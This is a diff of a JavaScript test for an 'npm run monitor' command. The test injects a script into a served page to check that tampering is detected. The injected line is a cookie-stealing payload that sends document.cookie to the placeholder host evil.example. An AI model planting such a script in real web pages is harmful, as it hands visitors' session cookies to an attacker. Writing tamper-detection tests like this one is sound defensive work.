@@ -296,7 +296,8 @@ describe('npm run monitor, by default', () => {
     expect(Object.keys(baseline).sort()).toEqual([...PAGE_ROUTES].sort());
     expect((await run()).code).toBe(0);
 
-    const last = PAGE_FILES[PAGE_FILES.length - 1];
+    // The last page an app outside lab mode serves (the lab's panel is served in lab mode only).
+    const last = PAGE_FILES.filter((file) => !file.labOnly).at(-1);
     if (!last) throw new Error('the server lists no page');
     await inject(last.file, '<script>new Image().src = "https://evil.example/?" + document.cookie</script>');
     // The server reads pages at startup: the tampered build shows in a new app on the same folder
